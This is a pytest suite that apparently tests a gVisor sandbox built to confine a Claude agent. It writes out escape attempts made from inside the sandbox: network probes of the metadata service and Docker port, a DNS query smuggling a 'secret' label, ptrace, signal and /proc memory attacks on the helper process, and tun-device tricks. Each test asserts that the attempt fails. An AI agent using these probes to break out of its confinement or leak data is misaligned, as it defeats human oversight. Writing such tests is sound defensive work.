"""A bottle with a kernel of its own: that it is one, that its way out is the gate alone, and how it ends."""

from __future__ import annotations

import json
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from claude_bottle.operations.launch import Launched
from claude_bottle.operations.prepare import prepare_capture
from tests.escape.conftest import Attack
from tests.escape.test_engine import NO_WAY, REACH, addresses, containers_of, inspected
from tests.support.bottles import World, make_world
from tests.support.listeners import Listeners, host_listeners
from tests.support.processes import eventually

pytestmark = pytest.mark.needs("gvisor", "envoy", "claude")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return make_world(tmp_path_factory.mktemp("gvisor"), "docker", common={"runtime": "runsc"})


@pytest.fixture(scope="module")
def cell(world: World) -> Iterator[Launched]:
    """Its sidecars are on the engine's own network, where hosts, gateways and neighbours are."""
    world.declare({})
    with world.bottle() as launched:
        yield launched


@pytest.fixture
def doomed(world: World) -> Iterator[Launched]:
    with world.bottle() as launched:
        yield launched


@pytest.fixture(scope="module")
def host() -> Iterator[Listeners]:
    with host_listeners("claude-bottle-gvisor-test") as listeners:
        yield listeners


def running(launched: Launched) -> list[bool]:
    return [bool(inspected(name)["State"]["Running"]) for name in containers_of(launched)]


def test_its_kernel_is_not_the_engines(attack: Attack, cell: Launched) -> None:
    release = Path("/proc/sys/kernel/osrelease").read_text().strip()
    found = attack('report(release=os.uname().release, version=open("/proc/version").read())')
    assert found["release"] != release
    assert release not in found["version"]
    assert inspected(containers_of(cell)[0])["HostConfig"]["Runtime"] == "runsc"


def test_nothing_but_the_gate_can_be_reached(
    attack: Attack, cell: Launched, doomed: Launched, host: Listeners
) -> None:
    """Its own network stack has one interface and no route, whatever the engine's networks hold."""
    with_neighbour = [address for each in (cell, doomed) for address in addresses(containers_of(each)[1])]
    assert len(with_neighbour) == 4
    everywhere = host.ports["tcp-everywhere"]
    with socket.create_connection((with_neighbour[1], everywhere), 5):
        pass  # the host can be reached at the gateway, by whoever has a way there
    host.reached.clear()
    six = ["fe80::1", "fd00::1", "::1", "::ffff:" + with_neighbour[1], "2001:db8::1"]
    targets = [*with_neighbour, "127.0.0.11", "127.0.0.53", "192.0.2.1", "169.254.169.254", "10.0.2.2", *six]
    found = attack(REACH, json.dumps(targets), json.dumps([53, 443, 2375, 9098, everywhere]))
    assert set(found["outcomes"].values()) <= NO_WAY, found
    assert host.reached == []


def test_a_secret_in_a_name_reaches_nobody(attack: Attack) -> None:
    found = attack(
        """
        label = b"\\x06secret\\x07example\\x03org\\x00"
        query = bytes.fromhex("123401000001000000000000") + label + bytes.fromhex("00010001")
        outcomes = {}
        for resolver in ("127.0.0.11", "127.0.0.1", "192.0.2.53", "172.17.0.1"):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                with socket.socket(socket.AF_INET, kind) as sock:
                    sock.settimeout(2)
                    def ask():
                        sock.connect((resolver, 53))
                        sock.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
                        sock.recv(512)
                    outcomes[f"{resolver} {kind.name}"] = tried(ask)
        try:
            socket.getaddrinfo(b"secret.example.org", 443)
            outcomes["library"] = "RESOLVED"
        except socket.gaierror:
            outcomes["library"] = "ECONNREFUSED"
        report(outcomes=outcomes)
        """
    )
    assert set(found["outcomes"].values()) <= NO_WAY, found


def test_the_ferry_cannot_be_gone_around_or_hurt(attack: Attack, cell: Launched) -> None:
    """Its sockets are in a folder that the agent may not enter, and it is of another user."""
    found = attack(
        """
        import signal
        hand, outcomes = "/opt/claude-bottle/hand", {}
        outcomes["list"] = tried(os.listdir, hand)
        for name in ("gate.sock", "life.sock", "hand.sock"):
            for path in (f"{hand}/{name}", f"/proc/1/root{hand}/{name}"):
                with socket.socket(socket.AF_UNIX) as sock:
                    outcomes[path] = tried(sock.connect, path)
        os.symlink(hand, "/tmp/hand")
        with socket.socket(socket.AF_UNIX) as sock:
            outcomes["symlink"] = tried(sock.connect, "/tmp/hand/gate.sock")
        ferries = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid == 900]
        for pid in ferries:
            for number in (signal.SIGKILL, signal.SIGSTOP):
                outcomes[f"signal {number} {pid}"] = tried(os.kill, pid, number)
            outcomes[f"memory {pid}"] = tried(lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)))
            outcomes[f"descriptors {pid}"] = tried(os.listdir, f"/proc/{pid}/fd")
            outcomes[f"trace {pid}"] = called(libc.ptrace, 16, pid, 0, 0)
        for port in (9098, 9099):
            with socket.socket() as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                outcomes[f"bind {port}"] = "no" if tried(sock.bind, ("127.0.0.1", port)) == "EADDRINUSE" else port
        report(outcomes=outcomes, ferries=len(ferries))
        """
    )
    assert found["ferries"] >= 3, "init, anchor and ferry"
    free = found["outcomes"].pop("bind 9098")
    assert free in ("no", 9098), "it was of use once, before any agent ran"
    assert set(found["outcomes"].values()) <= {"EACCES", "EPERM", "ENOENT", "no"}, found
    assert cell.bottle.exec(["true"]).status == 0


def test_its_devices_open_no_door(attack: Attack) -> None:
    found = attack(
        """
        import fcntl
        tun = os.open("/dev/net/tun", os.O_RDWR)
        ask = struct.pack("16sH22x", b"tun0", 0x1001)
        fuse = os.open("/dev/fuse", os.O_RDWR)
        report(outcomes=[tried(fcntl.ioctl, tun, 0x400454CA, ask), tried(os.read, fuse, 8)],
               interfaces=[name for _, name in socket.if_nameindex()])
        """
    )
    assert set(found["outcomes"]) == {"EPERM"}
    assert found["interfaces"] == ["lo"]


def test_bytes_come_through_whole_and_ends_pass_on(cell: Launched, attack: Attack) -> None:
    """A denial comes with its body, and the end of it, over the ferry."""
    found = attack(
        """
        with socket.create_connection(("127.0.0.1", 9099), 5) as gate:
            gate.sendall(b"CONNECT example.org:443 HTTP/1.1\\r\\nHost: example.org:443\\r\\n\\r\\n")
            gate.shutdown(socket.SHUT_WR)
            said = b"".join(iter(lambda: gate.recv(4096), b""))
        report(status=said.split()[1].decode(), body=said.partition(b"\\r\\n\\r\\n")[2].decode())
        """
    )
    assert found["status"] == "403"
    assert "host-not-allowed" in str(json.loads(found["body"]))


def test_its_work_is_fetched_behind_the_same_kernel(world: World, cell: Launched) -> None:
    """By git, in files that an agent has written: `pull` of a bottle that died, when the manifest is gone."""
    again = prepare_capture(world.context, cell.metadata)
    assert again.plan.request.runtime == "runsc"


@pytest.mark.parametrize("role", ["sidecars", "agent"])
def test_when_one_ends_so_does_the_other(doomed: Launched, role: str) -> None:
    assert running(doomed) == [True, True]
    name = containers_of(doomed)[["agent", "sidecars"].index(role)]
    subprocess.run(["docker", "kill", name], capture_output=True, check=True)
    assert eventually(lambda: running(doomed) == [False, False])


def test_without_its_ferry_a_bottle_ends(doomed: Launched) -> None:
    script = "for d in /proc/[0-9]*; do grep -qs ferry $d/cmdline && echo ${d#/proc/}; done | tail -1 | xargs kill -9"
    argv = ["docker", "exec", "--user", "900:900", containers_of(doomed)[0], "sh", "-c", script]
    subprocess.run(argv, capture_output=True, check=False)
    assert eventually(lambda: running(doomed) == [False, False])
